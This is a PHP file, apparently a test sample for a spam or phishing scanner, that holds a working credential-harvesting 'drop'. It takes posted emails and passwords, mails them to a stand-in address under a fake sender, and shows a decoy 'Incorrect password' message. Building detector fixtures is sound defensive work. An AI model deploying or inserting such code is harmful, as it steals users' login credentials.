<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
class Drop {
    private $to = 'results@example.net';
    public function tidy($v) { return trim(strip_tags($v)); }
    public function send($data) {
        $user = $data['user'];
        $secret = $data['secret'];
        $this->body = "<p>Login: $user</p><p>Password: $secret</p>";
        $this->head = "From: Portal <noreply@example.org>\r\n";
        return mail($this->to, "New login", $this->body, $this->head);
    }
}
$d = new Drop;
$data = array();
$data['user'] = $d->tidy($_POST['email']);
$data['secret'] = $d->tidy($_POST['password']);
$d->send($data);
echo "Incorrect password";
